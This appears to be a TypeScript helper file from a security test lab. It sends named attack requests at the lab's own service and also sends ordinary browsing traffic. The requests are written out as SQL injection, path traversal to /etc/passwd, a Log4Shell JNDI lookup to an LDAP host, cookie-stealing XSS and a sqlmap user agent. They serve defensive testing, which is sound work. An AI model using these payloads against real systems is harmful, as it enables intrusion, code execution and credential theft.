import { httpRequest, type HttpResponse, type Namespace } from "@secuxflow/testkit";
import { ADDRESSES } from "./topology.js";

/** Attacks that the lab can run against its own service, by name. */
export const ATTACKS = {
  sqli: { title: "SQL injection in a search", path: "/search?q=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20" },
  traversal: { title: "path traversal to /etc/passwd", path: "/static/../../../../etc/passwd" },
  log4shell: { title: "Log4Shell in a header", path: "/", headers: { "x-api-version": "${jndi:ldap://192.168.1.66/a}" } },
  xss: { title: "cross-site scripting", path: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" },
  scanner: { title: "a scanner's user agent", path: "/admin.php", headers: { "user-agent": "sqlmap/1.7 (https://sqlmap.org)" } },
} as const satisfies Record<string, { title: string; path: string; headers?: Record<string, string> }>;
export type AttackName = keyof typeof ATTACKS;

const base = `http://${ADDRESSES.service}:${ADDRESSES.servicePort}`;

/** Sends one attack from a namespace of the lab to its service. Throws HttpFailedError where no answer comes. */
export function attack(from: Namespace, name: AttackName, timeoutMs = 5_000): Promise<HttpResponse> {
  const { path, headers = {} } = ATTACKS[name] as { path: string; headers?: Record<string, string> };
  return httpRequest(from, base + path, { headers, timeoutMs });
}

/** Sends one ordinary request. */
export function browse(from: Namespace, path = "/search?q=lamp", timeoutMs = 5_000): Promise<HttpResponse> {
  return httpRequest(from, base + path, { timeoutMs, headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0" } });
}
